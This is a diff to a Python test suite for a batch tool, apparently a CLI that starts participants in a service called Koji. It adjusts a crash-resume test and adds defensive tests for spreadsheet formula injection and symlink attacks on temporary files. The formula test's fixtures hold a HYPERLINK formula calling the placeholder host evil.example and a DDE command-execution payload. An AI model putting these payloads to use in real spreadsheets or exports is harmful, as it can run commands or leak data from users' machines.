@@ -111,13 +111,13 @@ def test_kill_9_halfway_then_resume_starts_nobody_twice(sandbox, tmp_path) -> No
     kinds = Counter(r["outcome"] for r in rows)
     final = started(sandbox)
     assert max(final.values()) == 1, "no participant may be started twice"
-    assert kinds["started"] + kinds["skipped"] == 30
+    assert kinds["started"] + kinds["skipped"] + kinds["unknown"] == 30
     resumed_ids = {r["external_id"] for r in rows if r["outcome"] == "started"}
     assert resumed_ids.isdisjoint(first)
-    unknown = {r["external_id"] for r in rows if "unknown" in r["message"]}
-    assert len(unknown) <= 3  # those in flight at the kill: reported, never re-sent
+    unknown = {r["external_id"] for r in rows if r["outcome"] == "unknown"}
+    assert len(unknown) <= 3  # those in flight at the kill: reported as unknown, never re-sent
     assert set(final) | unknown == {f"u{i}" for i in range(30)}
-    assert resumed.returncode == 0
+    assert resumed.returncode == (1 if unknown else 0)  # an unsettled start is not "done"
 
 
 def test_a_terminal_gets_a_progress_bar(sandbox, tmp_path) -> None:
@@ -158,3 +158,40 @@ def test_batch_refuses_an_unwritable_results_path_before_sending(sandbox, tmp_pa
     assert proc.stderr.startswith(f"koji-mcp batch: cannot write results to {tmp_path / 'missing' / 'out.csv'}")
     assert sandbox.requests() == []
     assert Ledger.open(str(tmp_path), sandbox.base_url).list()[1] == 0
+
+
+def test_results_csv_neutralises_spreadsheet_formulas(sandbox, tmp_path) -> None:
+    src = tmp_path / "people.csv"
+    src.write_text('external_id,display_name\n"=HYPERLINK(""http://evil.example/?x=1"",""click"")",Ann\n'
+                   "@SUM(1),+1 555\n-2+3,-Dee\nplain,=Bob\n")
+    sandbox.fault(path=START, status=400, json={"error": "invalid_request", "message": "=cmd|' /C calc'!A0"})
+    proc = run([str(src), "--concurrency", "1"], sandbox, tmp_path / "state")
+    assert proc.returncode == 1, proc.stderr
+    with open(tmp_path / "people.results.csv", newline="") as handle:
+        rows = [(r["external_id"], r["display_name"], r["outcome"], r["message"]) for r in csv.DictReader(handle)]
+    assert rows == [
+        ("'=HYPERLINK(\"http://evil.example/?x=1\",\"click\")", "Ann", "failed", "'=cmd|' /C calc'!A0"),
+        ("'@SUM(1)", "'+1 555", "started", ""),
+        ("'-2+3", "'-Dee", "started", ""),
+        ("plain", "'=Bob", "started", ""),
+    ]
+    # what was sent to Koji is the participant's real id, not the neutralised cell
+    assert started(sandbox) == Counter({'=HYPERLINK("http://evil.example/?x=1","click")': 1, "@SUM(1)": 1,
+                                        "-2+3": 1, "plain": 1})
+
+
+def test_results_are_not_written_through_a_planted_tmp_symlink(sandbox, tmp_path) -> None:
+    src = write_csv(tmp_path / "people.csv", 2)
+    victim, kept = tmp_path / "victim.txt", tmp_path / "kept.txt"
+    kept.write_text("precious\n")
+    planted = tmp_path / "people.results.csv.tmp"
+    planted.symlink_to(victim)
+    (tmp_path / "people.results.csv.tmp.tmp").symlink_to(kept)
+    proc = run([str(src)], sandbox, tmp_path / "state")
+    assert proc.returncode == 0, proc.stderr
+    assert not victim.exists() and kept.read_text() == "precious\n"  # no link was followed
+    assert planted.is_symlink() and os.readlink(planted) == str(victim)  # nor removed
+    out = tmp_path / "people.results.csv"
+    assert not out.is_symlink() and [r["outcome"] for r in results(out)] == ["started", "started"]
+    leftovers = sorted(p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp"))
+    assert leftovers == ["people.results.csv.tmp", "people.results.csv.tmp.tmp"]
